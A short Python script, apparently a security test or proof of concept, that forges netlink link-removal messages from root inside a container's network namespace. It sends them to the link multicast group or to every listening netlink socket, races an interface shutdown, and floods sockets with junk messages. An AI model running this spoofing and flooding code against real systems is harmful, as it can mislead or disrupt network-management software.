#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""What root inside a container can say to the netlink sockets of its network namespace.

forge_link.py multicast IFINDEX NEW   tells the group that interface IFINDEX left, and is NEW elsewhere
forge_link.py unicast IFINDEX NEW     tells every socket so
forge_link.py race IFINDEX NEW        tells the group so as soon as the interface is closed, to be first
forge_link.py junk COUNT              sends every socket what nobody asked for
"""

import socket
import struct
import sys

RTM_NEWLINK, RTM_DELLINK, RTNLGRP_LINK, IFLA_NEW_IFINDEX, IFF_UP = 16, 17, 1, 49, 1


def open_socket(group=0):
    opened = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    opened.bind((0, group))
    return opened


def departure(ifindex, new):
    body = struct.pack("=BxHiII", 0, 1, ifindex, 0, 0) + struct.pack("=HHi", 8, IFLA_NEW_IFINDEX, new)
    return struct.pack("=IHHII", 16 + len(body), RTM_DELLINK, 0, 0, 0) + body


def ports():
    with open("/proc/net/netlink", encoding="ascii") as sockets:
        for line in sockets.readlines()[1:]:
            fields = line.split()
            if fields[1] == "0" and fields[2] != "0":
                yield int(fields[2])


def send_to_all(message, count=1):
    sender = open_socket()
    sender.setblocking(False)
    for port in ports():
        try:
            for _ in range(count):
                sender.sendto(message, (port, 0))
        except OSError as error:  # refused, or full
            print(port, error)


def race(ifindex, new):
    listener, sender = open_socket(RTNLGRP_LINK), open_socket()
    print("armed", flush=True)
    while True:
        data = listener.recv(65536)
        kind = struct.unpack_from("=H", data, 4)[0]
        index, flags = struct.unpack_from("=iI", data, 20)
        if kind == RTM_NEWLINK and index == ifindex and not flags & IFF_UP:
            for _ in range(3):
                sender.sendto(departure(ifindex, new), (0, RTNLGRP_LINK))
            print("fired", flush=True)
            return


def main():
    command, *numbers = sys.argv[1:]
    numbers = [int(number) for number in numbers]
    if command == "multicast":
        open_socket().sendto(departure(*numbers), (0, RTNLGRP_LINK))
    elif command == "unicast":
        send_to_all(departure(*numbers))
    elif command == "race":
        race(*numbers)
    elif command == "junk":
        send_to_all(struct.pack("=IHHII", 20, 20, 0, 12345, 0) + b"junk", *numbers)
    else:
        sys.exit(__doc__)


main()
